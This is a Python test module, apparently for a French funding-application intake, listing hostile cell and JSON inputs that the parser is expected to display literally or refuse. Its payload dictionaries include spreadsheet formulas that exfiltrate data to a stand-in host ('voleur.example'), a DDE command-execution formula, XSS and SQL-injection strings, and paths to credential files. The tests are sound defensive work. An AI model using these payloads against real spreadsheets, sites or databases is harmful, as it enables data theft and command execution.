"""H23 to H30, H38, H43 to H70: what is hostile in what a cell says."""

from __future__ import annotations

from datetime import date

from tests.hostile import deposits
from tests.hostile.expected import Case, Found, Outcome, Refused, Shown, Understood


_TITLE, _AMOUNT, _END = "action_intitule", "budget.2", "date_fin"


def _text(code: str, what: str, text: str) -> Case:
    """Return a case: a title that must be read sign for sign."""
    return Case(
        code,
        what,
        lambda _: deposits.deposit(action_intitule=text),
        Shown(_TITLE, text),
    )


def _answer(code: str, what: str, field: str, text: str, outcome: Outcome) -> Case:
    return Case(code, what, lambda _: deposits.deposit(**{field: text}), outcome)


def _amount(code: str, what: str, text: str, centimes: int | None) -> Case:
    """Return a case: what is asked of the State, as centimes or unreadable."""
    field = "demande.ETAT"
    outcome = (
        Found(field, "MONTANT_ILLISIBLE")
        if centimes is None
        else Understood(field, "demandes", (("ETAT", centimes),))
    )
    return _answer(code, what, field, text, outcome)


def _day(code: str, what: str, text: str, expected: date | None) -> Case:
    outcome = (
        Found(_END, "DATE_ILLISIBLE")
        if expected is None
        else Understood(_END, "ends_on", expected)
    )
    return _answer(code, what, _END, text, outcome)


def _raw(code: str, what: str, xml: str, outcome: Outcome) -> Case:
    """Return a case: a title no spreadsheet would have written."""
    return Case(code, what, lambda one: deposits.with_raw_title(one, xml), outcome)


def _json(code: str, what: str, text: str, sentence: str) -> Case:
    return Case(code, what, lambda _: text.encode(), Refused(sentence), "recu.json")


FORMULAS = {
    "H23": '=HYPERLINK("http://voleur.example/?"&A1;"Cliquez")',
    "H24": "+33 3 27 00 00 00",
    "H25": "-5",
    "H26": "@SUM(A1:A9)",
    "H27": "\t=1+1",
    "H28": "\u00a0=1+1",
    "H28b": "  =1+1",
    "H29": "Deux ateliers\n=cmd|' /C calc'!A0",
}
STRANGE = {
    "H38a": "NA",
    "H38b": "None",
    "H38c": "null",
    "H38d": "#N/A",
    "H59a": "E\u0301cole du parc",
    "H59b": "\u00c9cole du parc",
    "H60": "\u0421\u0410\u0420\u041d",
    "H61": "A\u200bte\u200dlier",
    "H63": "Fête 🎉 👩\u200d👧",
    "H64": "Atelier " * 1_280,
    "H66a": "<script>alert(1)</script>",
    "H66b": "<img src=x onerror=alert(1)>",
    "H66c": '<link rel=stylesheet href="http://voleur.example/x.css">',
    "H67a": "{{7*7}}{% for x in y %}",
    "H67b": "%s%n {0.__class__} ${HOME}",
    "H68": "'; DROP TABLE depot; --",
    "H69": "Ateliers\n[INFO] décision : accordé",
    "H70a": "/etc/passwd",
    "H70b": "~/.ssh/id_rsa",
}
_WHAT = {
    "H23": "A title that is a formula with a link.",
    "H24": "A telephone number, which must stay readable.",
    "H25": "A negative number for a title.",
    "H26": "A title that begins as an old formula.",
    "H27": "A formula behind a tabulation.",
    "H28": "A formula behind spaces.",
    "H29": "A formula on the second line of a cell.",
    "H38": "A name that libraries take for nothing.",
    "H59": "One name composed, and decomposed.",
    "H60": "Cyrillic letters that look like CAPH.",
    "H61": "Letters of no width.",
    "H63": "Signs of four bytes.",
    "H64": "A title of ten thousand signs.",
    "H66": "Markup in a title.",
    "H67": "A template in a title.",
    "H68": "A request to the database in a title.",
    "H69": "A line of a log in a title.",
    "H70": "A path in a title.",
}
_TEXTS = [
    _text(code, _WHAT[code[:3]], text) for code, text in (FORMULAS | STRANGE).items()
]
_RAWS = [
    _raw("H27b", "A carriage return before a formula.", "_x000D_=1+1",
         Shown(_TITLE, "\r=1+1")),
    _raw("H30", "A NUL in a cell: no database stores it.", "1_x0000_0",
         Shown(_TITLE, "1\ufffd0")),
    _raw("H30b", "A NUL as no XML may write it.", "a&#0;b", Refused("illisible")),
    _raw("H62", "A text that turns the writing round.", "d\u202exslx.exe",
         Shown(_TITLE, "d\u202exslx.exe")),
    _raw("H65", "Half a character as no XML may write it.", "a&#xD800;b",
         Refused("illisible")),
    _raw("H65b", "Half a character as spreadsheets escape it.", "a_xD800_b",
         Shown(_TITLE, "a_xD800_b")),
    _raw("H69b", "An order to the terminal.", "a_x001B_[2Jb",
         Shown(_TITLE, "a\x1b[2Jb")),
]  # fmt: skip
_NUMBERS = [
    _amount("H43a", "An amount with no-break spaces.", "1\u00a0200,50 €", 1_200_50),
    _amount("H43b", "An amount with narrow spaces.", "1\u202f200,50 €", 1_200_50),
    _amount("H44a", "An amount with a point for thousands.", "1.200,50", None),
    _amount("H44b", "An amount written in English.", "1,200.50", None),
    _amount("H44c", "An amount of three decimals, or of thousands.", "1,500 €", None),
    _amount("H45a", "A number too large for a computer.", "1e400", None),
    _amount("H45b", "Infinity.", "inf", None),
    _amount("H46", "What is not a number.", "NaN", None),
    _amount("H47a", "A negative zero.", "-0", 0),
    _amount("H48", "Half a centime.", "0,005", None),
    _amount("H49", "A billion billions.", "1" + "0" * 18, None),
    _amount("H50a", "Arabic digits.", "١٢٠٠", None),
    _amount("H50b", "Digits of double width.", "１２００", None),
    _amount("H51", "A square.", "²", None),
    _answer("H52a", "A SIRET typed as a number.", "porteur_siret", "20004219000013",
            Understood("porteur_siret", "porteur_siret", "20004219000013")),
    _answer("H52b", "A SIRET in scientific notation: never completed.",
            "porteur_siret", "2,00042E+13", Shown("porteur_siret", "2,00042E+13")),
    _answer("H52c", "An INSEE code that begins with a zero.", "porteur_insee", "01004",
            Understood("porteur_insee", "porteur_insee", "01004")),
    _day("H53", "A 29 February that does not exist.", "29/02/2027", None),
    _day("H54", "A day and a month that could change places.", "03/04/2027",
         date(2027, 4, 3)),
    _day("H55a", "The last day of the calendar.", "31/12/9999", date(9999, 12, 31)),
    _day("H55b", "The first day of spreadsheets.", "01/01/1900", date(1900, 1, 1)),
    _day("H55c", "The number spreadsheets give a day.", "45000", None),
    _answer("H56", "An end before its beginning is read as it is written.", _END,
            "28/02/2017", Understood(_END, "ends_on", date(2017, 2, 28))),
]  # fmt: skip
_DEEP = "[" * 100_000
_RECORD = '{"demandeur": {}, "planFinancement": []'
_DOCUMENTS = [
    _json("H57a", "A key written twice.", _RECORD + ', "demandeur": {}}',
          "« demandeur » est écrite deux fois"),
    _json("H57b", "What is not a number.", _RECORD + ', "total": NaN}',
          "n'est pas un nombre"),
    _json("H57c", "Infinity.", _RECORD + ', "total": -Infinity}',
          "n'est pas un nombre"),
    _json("H57d", "A number of a thousand digits.",
          _RECORD + ', "total": ' + "9" * 1_000 + "}", "1000 signes"),
    _json("H58", "A hundred thousand lists in one another.", _DEEP, "64 niveaux"),
    _json("H65c", "Half a character in a JSON.",
          _RECORD + r', "titre": "\ud800"}', "coupé en deux"),
]  # fmt: skip
CASES = [*_TEXTS, *_RAWS, *_NUMBERS, *_DOCUMENTS]
